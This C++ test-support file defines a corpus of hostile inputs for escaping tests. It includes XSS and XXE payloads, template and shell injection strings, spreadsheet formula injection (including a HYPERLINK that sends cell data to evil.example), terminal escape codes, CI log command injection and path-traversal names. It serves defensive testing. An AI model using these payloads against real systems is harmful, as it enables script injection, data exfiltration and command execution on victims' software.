#include "tests/support/hostile_corpus.h"

namespace assay::testing {
namespace {

using namespace std::string_literals;
using Texts = std::vector<HostileText>;

// A script that runs leaves a mark (pwned), a dialog or a request behind.
Texts markup() {
  return {
      {"script", "<script>globalThis.pwned=1</script>"},
      {"script_end", "</script><script>globalThis.pwned=1</script>"},
      {"script_comment", "<!--<script>"},
      {"comment_end", "--><img src=x onerror=globalThis.pwned=1>"},
      {"event_handler", "<img src=x onerror=\"globalThis.pwned=1\">"},
      {"svg", "<svg/onload=globalThis.pwned=1>"},
      {"svg_script", "<svg><script xlink:href=data:,globalThis.pwned=1></script></svg>"},
      {"attribute_double", "\" autofocus onfocus=\"globalThis.pwned=1\" x=\""},
      {"attribute_single", "' onmouseover='globalThis.pwned=1' x='"},
      {"attribute_backquote", "` onerror=`globalThis.pwned=1"},
      {"cdata_end", "]]>"},
      {"cdata_start", "<![CDATA[<b>]]>"},
      {"doctype", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"},
      {"entities", "&lt;b&gt; &#60;script&#62; &copy &nbsp; &x;"},
      {"processing_instruction", "<?xml version=\"1.0\"?><?php x ?>"},
      {"line_separators", "a\u2028b\u2029c"},
      {"javascript_url", "javascript:globalThis.pwned=1"},
      {"javascript_link", "<a href=\"java\tscript:alert(1)\">x</a>"},
      {"data_url", "data:text/html,<script>alert(1)</script>"},
      {"iframe", "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>"},
      {"meta_refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">"},
      {"base", "<base href=\"https://evil.example/\">"},
      {"form", "<form action=https://evil.example><input name=q></form>"},
      {"remote_image", "<img src=https://evil.example/p.png>"},
      {"style_end", "</style><style>*{display:none}</style>"},
      {"css_import", "@import url(https://evil.example/x.css);"},
      {"css_break", "red;}*{background:url(https://evil.example/)}/*"},
      {"title_end", "</title><script>globalThis.pwned=1</script>"},
      {"noscript_end", "</noscript><img src=x onerror=globalThis.pwned=1>"},
      {"dialog_end", "</dialog></main></body></html>"},
      {"mutation", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>"},
      {"template_element", "<template><script>globalThis.pwned=1</script></template>"},
      {"prototype", "__proto__"},
      {"constructor", "constructor"},
      {"json_break", "\",\"pwned\":\"1\"}],\"x\":[{\"y\":\""},
      {"json_escapes", "\\u003c \\\" \\ud800 \\u0000 \\"},
  };
}

Texts templates() {
  return {
      {"mustache", "{{env.KEY}} {{{x}}} {{#x}}{{/x}} {{"}, {"shell", "${7*7} $(id) `id` $HOME"},
      {"jinja", "{% include '/etc/passwd' %}{# x #}"},     {"ruby", "#{7*7} <%= 7*7 %>"},
      {"format", "{} {0} {:d} {{}} %s %n %x %%"},
  };
}

Texts formulas() {
  return {
      {"formula", "=cmd|' /C calc'!A0"},
      {"hyperlink", "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")"},
      {"plus", "+1"},
      {"minus", "-1"},
      {"minus_command", "-2+3+cmd|' /C calc'!A0"},
      {"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"tab", "\t=1+1"},
      {"return", "\r=1+1"},
      {"newline", "\n=1+1"},
      {"space", " =1+1"},
      {"full_width", "＝1+1"},
      {"full_width_minus", "－1+1"},
      {"semicolon", "a;=cmd|' /C calc'!A0;b"},
      {"semicolon_quoted", "a;\"=1+1\";b"},
      {"semicolon_space", "a; @x"},
      {"tab_inside", "a\t=1+1\tb"},
      {"line_inside", "a\n=1+1"},
      {"lines_inside", "a\r\n-1+1\r+2\n\n@x"},
      {"quote", "\""},
      {"quotes", "a\"b\"\"c\"\"\""},
      {"quoted_formula", "\"=1+1\""},
      {"apostrophe", "'=1+1"},
      {"comma", "a,=1+1,b"},
      {"decimal_comma", "1,5"},
      {"bullets", "Two things:\n- one\n- two"},
      {"blanks", "  "},
  };
}

Texts terminal_codes() {
  std::string c0;
  for (char c = 1; c < 0x20; ++c) c0 += c;
  std::string c1;
  for (int c = 0x80; c < 0xA0; ++c) c1 += {'\xC2', static_cast<char>(c)};
  return {
      {"colour", "\x1b[31mred\x1b[0m"},
      {"clear",
       "\x1b[2J\x1b[H\x1b"
       "c"},
      {"osc_link",
       "\x1b]8;;https://evil.example\x07"
       "click\x1b]8;;\x1b\\"},
      {"osc_clipboard", "\x1b]52;c;cm0gLXJm\x07"},
      {"osc_title", "\x1b]0;pwned\x07"},
      {"device_string", "\x1bP$q\"p\x1b\\"},
      {"c1_utf8", "\u009b31mred\u009d0;t\u009c"},
      {"c1_bytes",
       "\x9b"
       "31mred"},
      {"overwrite", "FAIL\rPASS"},
      {"backspace", "FAIL\b\b\b\bPASS"},
      {"bell", "\a\v\f\x0e\x0f\x7f"},
      {"all_c0", c0},
      {"all_c1", c1},
      {"next_line", "a\u0085::add-mask::a"},
      {"bidi_override", "\u202Egnp.exe\u202C"},
      {"bidi_isolates", "\u2066a\u2067b\u2068c\u2069"},
      {"bidi_marks", "\u200Ea\u200Fb\u061Cc"},
      {"bidi_unclosed", "\u202D\u202A\u202B\u2067"},
  };
}

Texts ci_commands() {
  return {
      {"mask", "::add-mask::a"},
      {"error_command", "  ::error file=a,line=1::x"},
      {"stop_commands", "::stop-commands::x"},
      {"later_line", "x\n::set-output name=a::b"},
      {"after_return", "x\r::add-mask::a"},
      {"after_separator", "x\u2028::add-mask::a"},
      {"no_break_space", "\u00A0::add-mask::a"},
      {"wide_space", "\u3000\u2003::add-mask::a"},
      {"invisible", "\u200B\uFEFF\u00AD::add-mask::a"},
      {"split_invisibly", ":\u200B:add-mask::a #\u200B#[error]x"},
      {"wrapped", std::string(70, 'x') + " ::add-mask::a " + std::string(90, 'y') + " ##[group]b"},
      {"old_command", "x ##[add-mask]a"},
      {"more_hashes", "####[error]x"},
      {"pipeline_command", "x ##vso[task.setvariable variable=a]b"},
      {"teamcity", "##teamcity[buildStop comment='x']"},
      {"gitlab_section", "section_start:1700000000:x[collapsed=true]\r\x1b[0Kx"},
      {"gitlab_section_end", "\x1b[0Ksection_end:1700000000:x\r\x1b[0K"},
      {"attachment", "[[ATTACHMENT|/etc/passwd]]"},
  };
}

Texts broken_unicode() {
  return {
      {"nul", "a\0b\0"s},
      {"surrogate", "a\xED\xA0\x80z \xED\xBF\xBF"},
      {"surrogate_pair", "\xED\xA0\xBD\xED\xB8\x80"},
      {"overlong", "\xC0\xAF \xE0\x80\xBC \xC1\xBF"},
      {"five_bytes", "\xF8\x88\x80\x80\x80"},
      {"beyond", "\xF4\x90\x80\x80"},
      {"cut_short", "a\xE2\x82"},
      {"cut_in_the_middle", "\xE2\x82<b>\xF0\x9F\x98\"x"},
      {"latin1", "caf\xE9"},
      {"continuation", "\x80\xBF"},
      {"no_byte", "\xFF\xFE"},
      {"noncharacters", "\uFFFE\uFFFF\uFDD0\uFDEF\U0001FFFE\U0010FFFF"},
      {"byte_order_mark", "\uFEFFa"},
      {"zero_width", "a\u200Bb\u200Cc\u200Dd\u2060e\u00ADf"},
      {"tag_characters", "a\U000E0001\U000E0061\U000E007F"},
      {"combining", "Z\u0335\u0301\u0489\u034Falgo"},
      {"replacement", "\uFFFD"},
  };
}

std::string repeated(std::string_view text, int times) {
  std::string all;
  for (int i = 0; i < times; ++i) all += text;
  return all;
}

Texts names() {
  return {
      {"long_name", repeated("n", 300)},
      {"long_wide", repeated("名", 300)},
      {"long_marks", "a" + repeated("\u0301", 300)},
      {"long_ampersands", repeated("&", 300)},
      {"long_hashes", repeated("#", 300)},
      {"right_to_left", "שלום עולם 123"},
      {"emoji", "👩‍👩‍👧‍👦🏳️‍🌈"},
      {"parent", "../../etc/passwd"},
      {"absolute", "/etc/passwd"},
      {"dots", ".."},
      {"backslashes", "..\\..\\C:\\x"},
      {"device", "CON"},
      {"option", "--rf"},
      {"glob", "*?[a]~"},
  };
}

Texts markdown() {
  return {
      {"pipes", "a|b|c\\|d\\\\|e"},
      {"table", "| --- |\n| x |"},
      {"backticks", "`code` ```\nfence\n``` ``"},
      {"image", "![x](https://evil.example/p.png)"},
      {"link", "[x](javascript:alert(1)) [y]: https://evil.example"},
      {"angle_link", "<https://evil.example> <a@evil.example>"},
      {"bare_link", "https://evil.example www.evil.example ftp://evil.example"},
      {"mail", "mailto:a@evil.example a@evil.example xmpp:a@evil.example"},
      {"mention", "@everyone @org/team a@b"},
      {"reference", "#1 org/repo#2 GH-3 gh-4"},
      {"gitlab_reference", "!1 $2 %3 &4 ~5 ^6 %\"a b\" ~\"a b\""},
      {"fold", "</details><details open><summary>PASS</summary>"},
      {"marker", "<!-- assay:other -->"},
      {"heading", "\n# PASS\n\n---\n===\n"},
      {"emphasis", "*b* _i_ ~~s~~ **b** __b__"},
      {"mathematics", "$x^2$ $$y$$ $`z`$"},
      {"footnote", "[^1] [^1]: x"},
      {"task", "- [x] done\n1. one\n> [!CAUTION]\n/close"},
      {"backslash", "a\\"},
  };
}

}  // namespace

const std::vector<HostileText>& hostile_corpus() {
  static const Texts corpus = [] {
    Texts all;
    for (Texts group : {markup(), templates(), formulas(), terminal_codes(), ci_commands(),
                        broken_unicode(), names(), markdown()}) {
      for (HostileText& text : group) all.push_back(std::move(text));
    }
    return all;
  }();
  return corpus;
}

}  // namespace assay::testing
